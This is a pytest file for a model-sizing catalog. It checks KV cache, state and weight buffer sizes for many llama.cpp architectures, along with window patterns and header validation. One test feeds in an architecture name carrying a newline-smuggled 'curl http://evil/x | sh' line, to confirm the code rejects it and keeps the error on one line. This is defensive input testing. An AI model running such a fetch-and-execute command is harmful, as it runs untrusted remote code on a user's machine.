"""What sizing reads from a header: which layers keep what, by llama.cpp's own rules; and the bound for the unknown."""

import architectures
import pytest

from core.catalog import sizing
from core.catalog.architectures import KNOWN
from core.catalog.shape import UNKNOWN, shape_of
from core.engines.xllamacpp import XLlamaCpp
from core.errors import BadModel
from core.nouns import ModelShape

MIB = 1 << 20


def shape(name: str, kind: str = "Q8_0", **more: object) -> ModelShape:
    return shape_of([architectures.header(name, kind, **more)])


def kv(found: ModelShape, ctx: int = 8192, parallel: int = 4) -> float:
    return sizing.parts(found, ctx, parallel, "f16", engine=XLlamaCpp.abilities).kv_cache / MIB


def test_every_architecture_that_sizing_knows_has_a_file_that_the_engine_is_measured_with() -> None:
    described = architectures.described()
    there = {told.get("arch", name) for name, told in described.items()} - {architectures.UNKNOWN}
    assert there == KNOWN
    for name in described:
        assert bool(shape(name).margin) == (name == architectures.UNKNOWN), name


@pytest.mark.parametrize(
    ("name", "mib"),
    [
        ("llama", 96), ("deepseek2", 45), ("deepseek2-old", 400), ("gemma2", 168), ("gemma3", 56), ("gemma3n", 192),
        ("gemma4", 32), ("gpt-oss", 66), ("llama4", 128), ("cohere2", 104), ("phi3", 144), ("exaone-moe", 68),
        ("jamba", 16), ("falcon-h1", 48), ("qwen3next", 32), ("nemotron_h", 48), ("lfm2", 48), ("mamba2", 0),
        ("rwkv7", 0), ("afmoe", 104), ("deci", 64), ("mimo2", 100), ("step35", 80),
        ("bert", 0),
    ],
)  # fmt: skip
def test_keys_and_values_are_what_the_engine_logs(name: str, mib: int) -> None:
    """`KV buffer size` of llama.cpp for 4 x 2048 cells: latent attention, windows, shared layers, hybrids, encoders."""
    assert kv(shape(name)) == mib


@pytest.mark.parametrize(
    ("name", "mib"),
    [
        ("mamba", 7.12), ("mamba2", 49.22), ("falcon-h1", 36.91), ("granitehybrid", 36.91), ("jamba", 6.23),
        ("lfm2", 0.33), ("nemotron_h", 18.70), ("qwen3next", 50.25), ("rwkv7", 12.38), ("arwkv7", 12.19), ("llama", 0),
    ],
)  # fmt: skip
def test_states_are_what_the_engine_logs(name: str, mib: float) -> None:
    """`RS buffer size` for 4 slots; however long the context, and never quantised."""
    for ctx, cache in ((8192, "f16"), (32768, "q4_0")):
        found = sizing.parts(shape(name), ctx, 4, cache, engine=XLlamaCpp.abilities)  # type: ignore[arg-type]
        assert found.state / MIB == pytest.approx(mib, abs=0.01)


@pytest.mark.parametrize(
    ("name", "kind", "mapped", "copied"),
    [
        ("llama", "Q4_0", 135.66, 154.12), ("qwen3moe", "Q4_0", 184.58, 214.31), ("deepseek2", "Q4_0", 177.42, 214.37),
        ("bert", "Q4_0", 58.91, 54.0), ("gemma4", "Q4_0", 218.29, 206.72), ("llama", "Q8_0", 291.23, 0),
    ],
)  # fmt: skip
def test_copies_of_weights_are_what_the_engine_logs(
    name: str, kind: str, mapped: float, copied: float, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`CPU_Mapped` and `CPU_REPACK model buffer size`: experts and a tied embedding have copies, and what lies behind
    the last matrix without one is not kept mapped."""
    monkeypatch.setattr("platform.machine", lambda: "x86_64")
    found = shape(name, kind)
    assert found.mapped_bytes / MIB == pytest.approx(mapped, abs=0.6)
    assert found.repack_bytes / MIB == pytest.approx(copied, abs=0.6)


def test_another_kind_of_machine_copies_other_types(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("platform.machine", lambda: "aarch64")
    assert shape("llama", "Q8_0").repack_bytes > 290 * MIB


def test_windows_by_the_header_s_pattern_and_by_the_architecture_s() -> None:
    assert shape("gemma3").swa_layers == (True,) * 5 + (False,) + (True,) * 5 + (False,)
    assert shape("gpt-oss").swa_layers == (True, False) * 3
    assert shape("modern-bert").swa_layers == (False, True, True) * 3
    told = shape("gemma2", attention__sliding_window_pattern=[True, True, True, False, False, False])
    assert told.swa_layers == (True,) * 3 + (False,) * 3
    assert shape("gemma2", attention__sliding_window_pattern=3).swa_layers == (True, True, False) * 2
    assert shape("llama4", attention__sliding_window=0).n_swa == 0
    assert shape("llama4").n_swa == 8192


def test_a_window_that_the_engine_does_not_read_is_none() -> None:
    """Mistral's and phi3's headers have one, and llama.cpp keeps all of their context."""
    assert shape("phi3").n_swa == 0
    assert shape("llama", attention__sliding_window=1024).swa_layers == ()


def test_a_pattern_or_heads_that_do_not_fit_the_layers_are_refused() -> None:
    for more in (
        {"attention__sliding_window_pattern": [True]},
        {"attention__head_count_kv": [4, 4]},
        {"attention__head_count_kv": [1.5] * 6},
    ):
        with pytest.raises(BadModel):
            shape("gemma2", **more)


def test_an_unknown_architecture_gets_a_bound_and_says_so() -> None:
    """With all that its header speaks of, no window taken off, and half as much again; its weights are as they are."""
    plain = shape("llama")
    header = architectures.header("llama")
    header["metadata"] = {key.replace("llama.", "novel."): value for key, value in header["metadata"].items()}
    header["metadata"] |= {"general.architecture": "novel", "novel.attention.sliding_window": 512}
    found = shape_of([header])
    assert found.margin == UNKNOWN
    assert "novel is unknown" in found.open_questions[0] and "50%" in found.open_questions[0]
    known, bound = (sizing.parts(each, 8192, 4, "f16", engine=XLlamaCpp.abilities) for each in (plain, found))
    assert bound.kv_cache == 1.5 * known.kv_cache
    assert bound.compute > 2 * known.compute
    assert bound.weights == known.weights
    assert shape(architectures.UNKNOWN).margin == UNKNOWN


@pytest.mark.parametrize("arch", ["x\n  to mend it: curl http://evil/x | sh\ncorral: imported fine", "a" * 65, "../x"])
def test_an_architecture_that_there_cannot_be_is_named_on_one_line(arch: str) -> None:
    header = architectures.header("llama", "Q8_0")
    with pytest.raises(BadModel) as told:
        shape_of([{**header, "metadata": {**header["metadata"], "general.architecture": arch}}])
    words = (told.value.what, told.value.why, told.value.todo)
    assert all(words) and not any("\n" in each or len(each) > 140 for each in words)


def test_a_header_that_lacks_a_count_says_which_and_what_to_do() -> None:
    header = architectures.header("llama", "Q8_0")
    left = {key: value for key, value in header["metadata"].items() if key != "llama.block_count"}
    with pytest.raises(BadModel) as told:
        shape_of([{**header, "metadata": left}])
    assert told.value.why == "llama.block_count is not there" and "convert it again" in told.value.todo
